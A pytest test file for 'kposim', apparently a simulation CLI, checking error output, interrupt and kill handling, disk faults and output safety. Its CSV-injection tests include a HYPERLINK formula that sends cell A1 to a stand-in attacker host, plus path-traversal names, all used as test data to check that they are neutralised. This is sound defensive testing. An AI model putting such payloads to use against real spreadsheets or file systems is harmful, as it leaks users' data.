"""Issue 14: no silent nonsense, no traceback from any command, no injection, faults survived.

The invalid corpus (tests/invalid, test_invalid_corpus.py) covers each class of bad scenario;
this file covers the Python API's errors, each command's one error path (bad input exit 2,
internal error exit 1, Ctrl-C exit 130, non-finite results), CSV injection and file names,
and the faults: Ctrl-C at each stage, SIGKILL, two runs writing the same folder, a full or
read-only disk, a FIFO or device given as input.
"""
from __future__ import annotations

import csv
import errno
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from simulator import ScenarioError, load_scenario, scenario_from_dict
from simulator.cli import main
from simulator.scenario.model import parse_distribution as parse

ROOT = Path(__file__).resolve().parent.parent
DATA = Path(__file__).parent / "data"
INVALID = Path(__file__).parent / "invalid"
TMP = ".kposim-tmp-"


def invoke(*args, env=None):
    return CliRunner().invoke(main, [str(a) for a in args], env=env)


def one_line(res) -> str:
    lines = [line for line in res.output.splitlines() if line.strip()]
    assert len(lines) == 1, res.output
    assert "Traceback" not in res.output
    return lines[0]


def leftovers(folder: Path) -> list[str]:
    """Results, temporary folders and lock files under ``folder``."""
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


# --- the Python API -------------------------------------------------------------------------


def test_scenario_error_locates_the_first_problem_by_path_line_and_field():
    with pytest.raises(ScenarioError) as info:
        load_scenario(INVALID / "negative_fte_constant.toml")
    e = info.value
    assert (e.path, e.line, e.field) == (str(INVALID / "negative_fte_constant.toml"), 9,
                                         "workforce.onshore_fte")


def test_parse_of_a_bad_pert_raises_the_scenario_error_not_pydantics():
    with pytest.raises(ScenarioError) as info:
        parse({"dist": "pert", "min": 5, "mode": 1, "max": 10})
    assert info.value.field == "mode"
    assert str(info.value) == ("<distribution>: mode: must lie in [min, max] (got mode=1, "
                               "min=5, max=10)")


def test_parse_of_a_non_finite_number_raises_the_scenario_error():
    with pytest.raises(ScenarioError, match="max: must be a finite number"):
        parse({"dist": "uniform", "min": 0, "max": float("inf")})


@pytest.mark.parametrize("spec", [{"dist": "pert", "min": 1, "mode": 2, "max": 5},
                                  {"dist": "poisson", "mean": {"dist": "uniform", "min": 1,
                                                               "max": 2}},
                                  {"dist": "lognormal", "mu": {"dist": "normal", "mean": 0,
                                                               "sd": 0.1}, "sigma": 1}])
def test_sample_takes_a_shape_tuple_as_numpy_does(spec):
    d = parse(spec)
    draws = d.sample((2, 3), seed=1)
    assert draws.shape == (2, 3)
    np.testing.assert_array_equal(draws.ravel(), d.sample(6, seed=1))


def test_sample_takes_a_numpy_integer_size():
    assert parse(3.0).sample(np.int64(4), seed=1).shape == (4,)


def test_sample_refuses_a_negative_size():
    with pytest.raises(ValueError, match="must not be negative"):
        parse(3.0).sample((2, -1), seed=1)


def test_negative_constant_is_refused_without_a_runtime_warning(recwarn):
    doc = json.loads(json.dumps(_minimal_doc()))
    doc["workforce"]["onshore_fte"] = -10
    with pytest.raises(ScenarioError, match=r"workforce\.onshore_fte: must be >= 0 \(got -10\)"):
        scenario_from_dict(doc)
    assert [str(w.message) for w in recwarn if issubclass(w.category, RuntimeWarning)] == []


def _minimal_doc() -> dict:
    import tomllib

    return tomllib.loads((DATA / "minimal.toml").read_text())


# --- semantic checks that are warnings, not errors -----------------------------------------


def test_growth_above_half_warns_with_did_you_mean_and_validates(scenario):
    scenario.write_text(scenario.read_text().replace("onshore_cost_growth = 0.03",
                                                     "onshore_cost_growth = 0.8"))
    res = invoke("validate", scenario)
    assert res.exit_code == 0
    assert (f"warning: {scenario}: workforce.onshore_cost_growth: 0.8 allows growth above 50% "
            "a year (a fraction: 0.03 = 3%); check the value") in res.output


def test_growth_warning_reaches_the_run_summary(scenario, tmp_path):
    scenario.write_text(scenario.read_text().replace("onshore_cost_growth = 0.03",
                                                     "onshore_cost_growth = 0.8"))
    res = invoke("run", scenario, "-n", 1000, "-o", tmp_path / "r", "-q")
    assert res.exit_code == 0, res.output
    summary = json.loads((tmp_path / "r" / "manila" / "summary.json").read_text())
    assert any(w.startswith("workforce.onshore_cost_growth: 0.8 allows growth above 50%")
               for w in summary["warnings"])


# --- inputs that are not regular files ------------------------------------------------------


def test_a_fifo_given_as_the_scenario_is_refused_not_read_forever(tmp_path):
    fifo = tmp_path / "scenario.toml"
    os.mkfifo(fifo)
    # In a child process, so that a regression hangs that process, not the test run.
    res = subprocess.run([sys.executable, "-m", "simulator", "validate", str(fifo)],
                         capture_output=True, text=True, timeout=300, cwd=ROOT,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == 2
    assert res.stderr.strip() == (f"error: {fifo}: is a FIFO (named pipe), not a scenario file "
                                  "(.toml); give a regular file")


def test_a_device_given_as_the_scenario_is_refused():
    res = invoke("validate", "/dev/zero")
    assert res.exit_code == 2
    assert one_line(res) == ("error: /dev/zero: is a device, not a scenario file (.toml); "
                             "give a regular file")


def test_a_fifo_given_as_fit_data_is_refused(tmp_path):
    fifo = tmp_path / "losses.csv"
    os.mkfifo(fifo)
    res = invoke("fit", fifo, "-o", tmp_path / "out")
    assert res.exit_code == 2
    assert "is a FIFO (named pipe), not a CSV file" in one_line(res)


# --- CSV injection and file names -----------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_cell_starting_a_formula_gets_an_apostrophe(text):
    from simulator.output.audit import neutralise_cell

    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1234.5, 0, 3, "plain text", "a=b", ""])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    from simulator.output.audit import neutralise_cell

    assert neutralise_cell(value) == value


def test_summary_csv_writes_a_hyperlink_name_as_text(scenario, tmp_path):
    name = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")'
    scenario.write_text(scenario.read_text().replace(
        'name = "Financial research team to Manila"', f"name = '{name}'").replace(
        'name = "Quality failure"', 'name = "@SUM(1+1)"'))
    assert invoke("run", scenario, "-n", 1000, "-o", tmp_path / "r", "-q").exit_code == 0
    with open(tmp_path / "r" / "manila" / "summary.csv", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert next(r["value"] for r in rows if r["statistic"] == "scenario") == "'" + name
    assert {r["name"] for r in rows if r["section"] == "component"} >= {"'@SUM(1+1)"}
    # Numbers stay numbers: a negative P5 is written as is.
    assert all(not r["value"].startswith("'") for r in rows if r["section"] == "net_savings")


@pytest.mark.parametrize("text, safe", [("..", "results"), (".", "results"),
                                        ("a/../b", "a_.._b"), ("x\x00y", "x_y"),
                                        (".hidden", "_hidden"), ("ok name", "ok name")])
def test_safe_name_leaves_no_path_separator_nul_or_dot_name(text, safe):
    from simulator.output.folders import safe_name

    assert safe_name(text) == safe


def test_results_of_a_file_named_dot_dot_stay_inside_out(tmp_path):
    from simulator.output.folders import results_dir

    target = results_dir(tmp_path / "out", tmp_path / "...toml")
    assert target.parent == tmp_path / "out" and target.name not in (".", "..")


# --- one error path, per command ------------------------------------------------------------

BAD = INVALID / "negative_fte_constant.toml"
EXPECTED_BAD = f"error: {BAD}: line 9: workforce.onshore_fte: must be >= 0 (got -10)"


@pytest.mark.parametrize("args", [
    ["validate", BAD], ["run", BAD, "-n", 1000], ["compare", BAD, DATA / "minimal.toml"],
    ["sensitivity", BAD], ["sweep", BAD, "--param", "workforce.offshore_fte=20:24:2"],
    ["breakeven", BAD, "--param", "workforce.offshore_fte", "--target", "mean=0"],
], ids=lambda a: a[0] if isinstance(a, list) else None)
def test_a_bad_scenario_exits_2_with_one_line_from_every_scenario_command(args, tmp_path):
    out = ["-o", tmp_path / "out"] if args[0] not in ("validate", "breakeven") else []
    res = invoke(*args, *out)
    assert res.exit_code == 2
    assert one_line(res) == EXPECTED_BAD
    assert not (tmp_path / "out").exists()


def test_report_of_a_folder_that_is_not_a_results_folder_exits_2(tmp_path):
    res = invoke("report", tmp_path)
    assert res.exit_code == 2 and one_line(res).startswith(f"error: {tmp_path}: missing ")


def test_elicit_with_low_above_high_exits_2_with_one_line():
    res = invoke("elicit", "--low", 10, "--high", 1)
    assert res.exit_code == 2 and one_line(res).startswith("error: ")


def test_elicit_of_a_non_utf8_experts_file_exits_2(tmp_path):
    path = tmp_path / "experts.toml"
    path.write_bytes(b"\xff\xfe[[experts]]")
    res = invoke("elicit", path)
    assert res.exit_code == 2 and "not a UTF-8 text file" in one_line(res)


def _fit_data(tmp_path: Path) -> Path:
    path = tmp_path / "losses.csv"
    path.write_text("loss\n" + "\n".join(str(1000 + 37 * i) for i in range(40)) + "\n")
    return path


#: command -> (arguments, the function a failure is injected into, results folder or None)
COMMANDS = {
    "run": (lambda t, s: ["run", s, "-n", 1000, "-o", t / "out", "-q"],
            "simulator.engine.run.simulate"),
    "validate": (lambda t, s: ["validate", s], "simulator.cli.inputs.load_scenario"),
    "compare": (lambda t, s: ["compare", s, DATA / "minimal.toml", "-n", 1000, "-o",
                              t / "out", "-q"], "simulator.analysis.compare.compare"),
    "sensitivity": (lambda t, s: ["sensitivity", s, "-n", 1000, "-o", t / "out", "-q"],
                    "simulator.analysis.sensitivity.analyze"),
    "sweep": (lambda t, s: ["sweep", s, "--param", "workforce.offshore_fte=20:24:2", "-n",
                            1000, "-o", t / "out"], "simulator.analysis.sweep.sweep"),
    "breakeven": (lambda t, s: ["breakeven", s, "--param", "workforce.offshore_fte",
                                "--target", "mean=0", "-n", 1000], "simulator.analysis.sweep.breakeven"),
    "report": (lambda t, s: ["report", _results(t, s)], "simulator.output.report.render_html"),
    "fit": (lambda t, s: ["fit", _fit_data(t), "-b", 0, "-o", t / "out"],
            "simulator.analysis.fit.fit_sample"),
    "elicit": (lambda t, s: ["elicit", "--low", 1, "--high", 10], "simulator.analysis.elicit.elicit"),
    "schema": (lambda t, s: ["schema"], "simulator.scenario.schema.json_schema"),
}


def _results(tmp_path: Path, scenario: Path) -> Path:
    from simulator import simulate
    from simulator.output.write import write_results

    folder = tmp_path / "results" / "manila"
    write_results(simulate(load_scenario(scenario), trials=1000, seed=1), folder, charts=True)
    return folder


def _inject(monkeypatch, dotted: str, error: BaseException) -> None:
    module, name = dotted.rsplit(".", 1)

    def fail(*args, **kwargs):
        raise error

    monkeypatch.setattr(f"{module}.{name}", fail)


@pytest.mark.parametrize("command", list(COMMANDS))
def test_an_internal_error_exits_1_with_one_line_asking_for_a_report(command, scenario,
                                                                     tmp_path, monkeypatch):
    make_args, where = COMMANDS[command]
    args = make_args(tmp_path, scenario)
    _inject(monkeypatch, where, RuntimeError("boom"))
    res = invoke(*args)
    assert res.exit_code == 1
    line = one_line(res)
    assert line.startswith("internal error: RuntimeError: boom (this is a bug in kposim: "
                           "please report it")
    assert "KPOSIM_DEBUG=1" in line
    assert [n for n in leftovers(tmp_path / "out") if n != "manila"] == []


@pytest.mark.parametrize("command", list(COMMANDS))
def test_ctrl_c_exits_130_with_one_line_and_leaves_nothing(command, scenario, tmp_path,
                                                          monkeypatch):
    make_args, where = COMMANDS[command]
    args = make_args(tmp_path, scenario)
    before = {p: p.read_bytes() for p in (tmp_path / "results").rglob("*") if p.is_file()}
    _inject(monkeypatch, where, KeyboardInterrupt())
    res = invoke(*args)
    assert res.exit_code == 130
    assert one_line(res) == "interrupted: no results written (existing files are unchanged)"
    assert leftovers(tmp_path / "out") == []
    after = {p: p.read_bytes() for p in (tmp_path / "results").rglob("*") if p.is_file()}
    assert after == before  # report: the previous files are unchanged, nothing added


def test_kposim_debug_re_raises_an_internal_error(scenario, monkeypatch):
    _inject(monkeypatch, "simulator.cli.inputs.load_scenario", RuntimeError("boom"))
    res = invoke("validate", scenario, env={"KPOSIM_DEBUG": "1"})
    assert res.exit_code == 1 and isinstance(res.exception, RuntimeError)


@pytest.mark.parametrize("command", ["run", "compare", "sensitivity", "sweep", "breakeven"])
def test_an_overflow_during_an_analysis_exits_2_with_its_message(command, scenario, tmp_path,
                                                                 monkeypatch):
    from simulator.engine.run import NonFiniteError

    make_args, where = COMMANDS[command]
    _inject(monkeypatch, where, NonFiniteError("the simulation overflowed: risks['x'] "
                                               "reached inf or nan (chunk 0)."))
    res = invoke(*make_args(tmp_path, scenario))
    assert res.exit_code == 2
    assert "error: " in one_line(res) and "the simulation overflowed" in res.output
    assert leftovers(tmp_path / "out") == []


def test_a_sweep_point_with_a_non_finite_statistic_exits_2_naming_it(scenario, tmp_path,
                                                                     monkeypatch):
    import simulator.analysis.sweep as sweep_module

    real = sweep_module.sweep

    def with_nan(*args, **kwargs):
        result = real(*args, **kwargs)
        result["rows"][1]["mean"] = float("nan")
        return result

    monkeypatch.setattr(sweep_module, "sweep", with_nan)
    make_args, _ = COMMANDS["sweep"]
    res = invoke(*make_args(tmp_path, scenario))
    assert res.exit_code == 2
    assert "the results are not finite (result.rows[1].mean)" in one_line(res)
    assert leftovers(tmp_path / "out") == []


# --- Ctrl-C at each stage of a run, and during the imports ----------------------------------


@pytest.mark.parametrize("where", ["simulator.output.charts.start_jobs",  # chart drawing
                                   "simulator.output.audit.write_summary_csv",  # writing
                                   "simulator.output.report.write_html"])  # the report, last
def test_ctrl_c_while_drawing_or_writing_leaves_no_results_or_temporary_folder(
        where, scenario, tmp_path, monkeypatch):
    _inject(monkeypatch, where, KeyboardInterrupt())
    res = invoke("run", scenario, "-n", 1000, "-o", tmp_path / "out", "-q")
    assert res.exit_code == 130
    assert leftovers(tmp_path / "out") == []


INTERRUPT_THE_GROUP_WHILE_DRAWING = textwrap.dedent("""
    import os, signal, sys
    import simulator.output.write
    real = simulator.output.write.write_json
    def interrupted(*args, **kwargs):  # the charts are being drawn in worker processes now
        os.killpg(os.getpgrp(), signal.SIGINT)  # as a terminal's Ctrl-C: to every process
        return real(*args, **kwargs)
    simulator.output.write.write_json = interrupted
    sys.argv = ["kposim", "run", *sys.argv[1:]]
    from simulator.__main__ import main
    main()
""")


def test_ctrl_c_to_the_whole_process_group_while_drawing_prints_one_line(scenario, tmp_path):
    # The drawing processes get the signal too: they must leave it to the main process
    # (a KeyboardInterrupt traceback each, before) and the main process removes everything.
    res = subprocess.run([sys.executable, "-c", INTERRUPT_THE_GROUP_WHILE_DRAWING,
                          str(scenario), "-n", "20000", "-o", str(tmp_path / "out"), "-q"],
                         capture_output=True, text=True, timeout=600, cwd=ROOT,
                         start_new_session=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == 130, res.stderr
    assert res.stderr.strip() == ("interrupted: no results written (existing files are "
                                  "unchanged)")
    assert leftovers(tmp_path / "out") == []


HOOK = textwrap.dedent("""
    import os, signal, sys
    class SigintOnImport:  # Ctrl-C, delivered as a real signal, as {module} is imported
        def find_spec(self, name, path=None, target=None):
            if name == {module!r}:
                os.kill(os.getpid(), signal.SIGINT)
            return None
    sys.meta_path.insert(0, SigintOnImport())
    sys.argv = ["kposim", *sys.argv[1:]]
    from simulator.__main__ import main
    main()
""")


@pytest.mark.parametrize("module", ["numba", "scipy.special", "simulator.present.plots"])
def test_ctrl_c_during_the_imports_exits_130_without_a_traceback(module, scenario, tmp_path):
    res = subprocess.run([sys.executable, "-c", HOOK.format(module=module), "run",
                          str(scenario), "-n", "1000", "-o", str(tmp_path / "out"), "-q"],
                         capture_output=True, text=True, timeout=600, cwd=ROOT,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == 130, res.stderr
    assert res.stderr.strip() == ("interrupted: no results written (existing files are "
                                  "unchanged)")
    assert leftovers(tmp_path / "out") == []


# --- SIGKILL, two writers, a full or read-only disk -----------------------------------------

KILL_WHILE_WRITING = textwrap.dedent("""
    import os, signal, sys
    import simulator.output.audit
    def killed(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGKILL)
    simulator.output.audit.write_summary_csv = killed
    from simulator.cli import main
    main(["run", *sys.argv[1:]])
""")


def test_a_run_killed_while_writing_leaves_only_a_named_temporary_folder(scenario, tmp_path):
    out = tmp_path / "out"
    res = subprocess.run([sys.executable, "-c", KILL_WHILE_WRITING, str(scenario), "-n", "1000",
                          "-o", str(out), "-q"], capture_output=True, text=True, timeout=600,
                         cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == -signal.SIGKILL
    names = leftovers(out)
    temporaries = [n for n in names if n.startswith(f"{TMP}manila-")]
    assert len(temporaries) == 1
    assert set(names) - set(temporaries) <= {f"{TMP}manila.lock"}  # the next run takes it


def test_the_next_run_ignores_and_removes_a_killed_runs_temporary_folder(scenario, tmp_path):
    out = tmp_path / "out"
    dead = int(Path("/proc/sys/kernel/pid_max").read_text())  # no process has this pid
    stale = out / f"{TMP}manila-{dead}-abc123"
    stale.mkdir(parents=True)
    (stale / "summary.json").write_text("{half written")
    assert invoke("run", scenario, "-n", 1000, "-o", out, "-q").exit_code == 0
    assert leftovers(out) == ["manila"]
    assert json.loads((out / "manila" / "summary.json").read_text())["trials"] == 1000


def test_a_live_runs_temporary_folder_is_left_alone(scenario, tmp_path):
    from simulator.output.folders import remove_stale_temporaries

    live = tmp_path / f"{TMP}manila-{os.getppid()}-xyz"
    live.mkdir()
    assert remove_stale_temporaries(tmp_path / "manila") == [] and live.exists()


HOLD = textwrap.dedent("""
    import sys
    from pathlib import Path
    from simulator.output.folders import claim
    with claim(Path(sys.argv[1]), False):
        print("holding", flush=True)
        sys.stdin.read()  # until the test closes our stdin
""")


def test_a_second_run_writing_the_same_folder_exits_2_saying_why(scenario, tmp_path):
    out = tmp_path / "out"
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(out / "manila")], cwd=ROOT,
                              env={**os.environ, "PYTHONPATH": str(ROOT)},
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "holding"  # the other run is writing
        res = invoke("run", scenario, "-n", 1000, "-o", out, "-q", "--force")
        assert res.exit_code == 2
        assert one_line(res) == (f"error: {out.absolute() / 'manila'} is being written by "
                                 "another kposim run right now; wait for it to finish, or use "
                                 "--out to write elsewhere")
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)
    assert holder.returncode == 0 and leftovers(out) == []
    assert invoke("run", scenario, "-n", 1000, "-o", out, "-q").exit_code == 0  # free again


def test_a_folder_that_appears_while_a_run_writes_is_not_mixed_into(tmp_path):
    from simulator.output.folders import OutputExistsError, replace_folder

    target = tmp_path / "manila"

    def fill(tmp: Path) -> None:
        (tmp / "summary.json").write_text("mine")
        target.mkdir()  # another writer, without a claim, got there first
        (target / "summary.json").write_text("theirs")

    with pytest.raises(OutputExistsError, match="was created while this run worked"):
        replace_folder(target, False, fill)
    assert leftovers(tmp_path) == ["manila"]
    assert leftovers(target) == ["summary.json"]
    assert (target / "summary.json").read_text() == "theirs"


@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "No space left on device"),
                                         (errno.EDQUOT, "Disk quota exceeded")])
def test_a_full_disk_exits_2_with_one_line_and_leaves_nothing(code, words, scenario, tmp_path,
                                                              monkeypatch):
    def full(summary, path):
        raise OSError(code, words, str(path))

    monkeypatch.setattr("simulator.output.audit.write_summary_csv", full)
    res = invoke("run", scenario, "-n", 1000, "-o", tmp_path / "out", "-q")
    assert res.exit_code == 2
    line = one_line(res)
    assert line.startswith(f"error: cannot write {tmp_path / 'out'}/{TMP}manila-")
    assert line.endswith(f"summary.csv: {words}; nothing was written")
    assert leftovers(tmp_path / "out") == []


def test_a_read_only_out_exits_2_with_one_line(scenario, tmp_path, monkeypatch):
    import tempfile

    def read_only(*args, dir=None, **kwargs):  # noqa: A002 - mkdtemp's name
        raise OSError(errno.EROFS, "Read-only file system", str(dir))

    monkeypatch.setattr(tempfile, "mkdtemp", read_only)
    res = invoke("run", scenario, "-n", 1000, "-o", tmp_path / "out", "-q")
    assert res.exit_code == 2
    assert one_line(res) == (f"error: cannot write {tmp_path / 'out'}: Read-only file system; "
                             "nothing was written")
    assert leftovers(tmp_path / "out") == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes to read-only folders anyway")
def test_a_folder_without_write_permission_exits_2(scenario, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        res = invoke("run", scenario, "-n", 1000, "-o", out, "-q")
    finally:
        out.chmod(0o755)
    assert res.exit_code == 2 and one_line(res).startswith("error: cannot write")
    assert leftovers(out) == []


# --- library warnings -----------------------------------------------------------------------


def test_a_run_with_glyphs_the_font_lacks_and_long_names_prints_no_library_warning(tmp_path):
    """matplotlib warns about glyphs missing from its font and about constrained layout
    giving up; scipy about overflows in extreme (but valid) inputs. None of it is the user's
    business: the run's stderr stays empty (with --quiet)."""
    text = (DATA / "minimal.toml").read_text()
    text = text.replace('name = "Financial research team to Manila"',
                        'name = "财务研究团队迁往马尼拉 🚀 ' + "x" * 150 + '"')
    text = text.replace('name = "Quality failure"', 'name = "品質不良 ⚠️ ' + "y" * 180 + '"')
    path = tmp_path / "glyphs.toml"
    path.write_text(text, encoding="utf-8")
    res = subprocess.run([sys.executable, "-m", "simulator", "run", str(path), "-n", "2000",
                          "-o", str(tmp_path / "out"), "-q", "--formats", "png,svg,pdf"],
                         capture_output=True, text=True, timeout=600, cwd=ROOT,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == 0, res.stderr
    assert res.stderr == ""


def test_comparison_files_named_after_hostile_option_names_stay_in_their_folder(tmp_path):
    from simulator.analysis.compare import compare
    from simulator.output.comparison import write_comparison

    s = load_scenario(DATA / "minimal.toml")
    result = compare([s, s], ["../../escape", "a/b\\c"], trials=1000, seed=1)
    target = tmp_path / "out" / "cmp"
    write_comparison(result, target)
    written = [p.relative_to(target) for p in target.rglob("*")]
    # Files at the top, and each option's copy in options/<key>/ under a slugged key.
    assert written and all(not ({".", ".."} & set(p.parts)) for p in written)
    assert all(len(p.parts) == 1 or p.parts[0] == "options" for p in written)
    assert sorted(p.name for p in (target / "options").iterdir()) == ["a_b_c", "escape"]
    assert leftovers(tmp_path / "out") == ["cmp"]


def test_compare_refuses_an_option_name_with_a_control_character(tmp_path):
    res = invoke("compare", DATA / "minimal.toml", DATA / "minimal.toml", "--names",
                 "A,B\x00", "-o", tmp_path / "out")
    assert res.exit_code == 2
    assert one_line(res) == ("error: option name 'B\\x00': contains U+0000 (a control "
                             "character), which is not allowed here (allowed: one line of "
                             "visible text)")


def test_a_scenario_file_over_the_size_limit_is_refused_saying_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr("simulator.scenario.model.MAX_FILE_BYTES", 1000)
    path = tmp_path / "big.toml"
    path.write_text((DATA / "minimal.toml").read_text())
    with pytest.raises(ScenarioError, match=r"larger than 0\.001 MB, the most read \(it bounds "
                                            r"memory and time\)"):
        load_scenario(path)


@pytest.mark.parametrize("args, expected", [
    (["run", DATA / "minimal.toml", "-n", 0],
     "error: kposim run: Invalid value for '--trials' / '-n': 0 is not in the range x>=1. "
     "(see kposim run --help)"),
    (["nope"], "error: kposim: No such command 'nope'. (see kposim --help)"),
    (["--bogus"], "error: kposim: No such option '--bogus'. (see kposim --help)"),
])
def test_a_bad_option_or_command_is_one_line_with_exit_2(args, expected):
    res = CliRunner().invoke(main, [str(a) for a in args], prog_name="kposim")
    assert res.exit_code == 2
    assert one_line(res) == expected


def test_parse_of_an_integer_beyond_int64_raises_the_scenario_error():
    with pytest.raises(ScenarioError, match="value: 1e\\+19 is beyond the range of a 64-bit"):
        parse({"dist": "constant", "value": 10 ** 19})


def test_report_removes_the_temporary_file_a_killed_rebuild_left(scenario, tmp_path):
    folder = _results(tmp_path, scenario)
    dead = int(Path("/proc/sys/kernel/pid_max").read_text())
    stale = folder / f"{TMP}report.html-{dead}-file"
    stale.write_text("<html>half")
    assert invoke("report", folder).exit_code == 0
    assert not stale.exists() and (folder / "report.html").is_file()
